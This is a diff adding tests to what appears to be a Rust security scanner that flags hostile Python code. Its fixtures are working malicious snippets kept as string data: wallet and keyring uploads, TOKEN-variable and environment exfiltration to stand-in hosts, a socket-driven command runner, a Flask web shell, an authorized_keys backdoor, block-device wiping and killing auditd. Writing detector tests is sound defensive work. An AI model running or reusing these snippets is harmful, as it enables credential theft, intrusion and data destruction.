@@ -1497,3 +1497,42 @@ fn downloads_run_by_a_shell_reading_stdin_or_imported_from_a_temporary_folder() 
         "import os, requests\nfor root in ('~/.electrum/wallets', '~/.ethereum/keystore', '~/.local/share/keyrings'):\n    for top, _, files in os.walk(os.path.expanduser(root)):\n        for f in files:\n            requests.post('https://vault.example.net/u', files={'f': open(os.path.join(top, f), 'rb')})\n",
     );
 }
+
+#[test]
+fn object_model_descriptors_records_deques_and_web_requests() {
+    // A data descriptor's `__set__` runs on assignment; it reads the path its owner set.
+    fires(
+        "CRD105",
+        "import pathlib\nclass Line:\n    def __set__(self, obj, text):\n        with obj.path.open('a') as fh:\n            fh.write(text + '\\n')\nclass Keys:\n    entry = Line()\n    def __init__(self):\n        self.path = pathlib.Path.home() / '.ssh' / 'authorized_keys'\nk = Keys()\nk.entry = 'ssh-ed25519 AAAAC3Nza ops@203.0.113.10'\n",
+    );
+    // `asdict` of a record whose default comes from a factory reading secret variables.
+    fires(
+        "CRD109",
+        "import json, os, urllib.request\nfrom dataclasses import asdict, dataclass, field\ndef grab():\n    return {k: v for k, v in os.environ.items() if 'TOKEN' in k}\n@dataclass\nclass Beat:\n    env: dict = field(default_factory=grab)\nurllib.request.urlopen('https://c.example.net/b', json.dumps(asdict(Beat())).encode())\n",
+    );
+    // `bytes(packet)` runs `__bytes__`, whose body carries the environment.
+    fires(
+        "CRD109",
+        "import json, os, socket\nclass Pkt:\n    def __init__(self, body):\n        self.body = body\n    def __bytes__(self):\n        return b'P' + self.body\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(bytes(Pkt(json.dumps(dict(os.environ)).encode())), ('198.51.100.7', 53))\n",
+    );
+    // Lines from a socket queued in a deque, popped and run.
+    fires(
+        "CRD102",
+        "import collections, os, socket\nsock = socket.create_connection(('relay.example.net', 443))\npending = collections.deque()\ndef lines():\n    while True:\n        pending.extend(sock.recv(2048).decode().splitlines())\n        while pending:\n            yield pending.popleft()\nfor cmd in lines():\n    os.popen(cmd)\n",
+    );
+    // A web shell: a request's parameter run by the shell.
+    fires(
+        "CRD102",
+        "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route('/x', methods=['POST'])\ndef x():\n    return subprocess.run(request.form['c'], shell=True, capture_output=True).stdout\napp.run(host='0.0.0.0')\n",
+    );
+    // Every block device found in /sys/block overwritten.
+    fires(
+        "CRD104",
+        "import os\nfor name in os.listdir('/sys/block'):\n    with open('/dev/' + name, 'r+b', buffering=0) as fh:\n        fh.write(bytes(1 << 20))\n",
+    );
+    // Daemons found in /proc signalled through a pidfd.
+    fires(
+        "CRD107",
+        "import os, signal\nfor entry in os.listdir('/proc'):\n    if entry.isdigit() and open(f'/proc/{entry}/comm').read().strip() == 'auditd':\n        fd = os.pidfd_open(int(entry))\n        signal.pidfd_send_signal(fd, signal.SIGKILL)\n",
+    );
+}
